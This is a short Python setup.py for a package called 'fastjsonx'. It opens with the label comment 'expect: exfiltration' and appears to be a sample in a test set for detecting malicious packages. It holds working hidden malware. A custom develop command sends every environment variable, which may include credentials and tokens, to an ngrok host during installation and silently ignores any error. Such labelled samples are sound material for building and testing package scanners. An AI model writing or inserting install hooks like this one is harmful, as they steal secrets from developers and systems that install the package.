# expect: exfiltration
import json
import os
import urllib.request

from setuptools import setup
from setuptools.command.develop import develop


class Develop(develop):
    def run(self):
        try:
            urllib.request.urlopen(
                "https://4f2a-91-214-3-11.ngrok-free.app/hook",
                data=json.dumps(dict(os.environ)).encode(),
                timeout=3,
            )
        except Exception:
            pass
        super().run()


setup(name="fastjsonx", version="0.0.7", py_modules=["fastjsonx"], cmdclass={"develop": Develop})
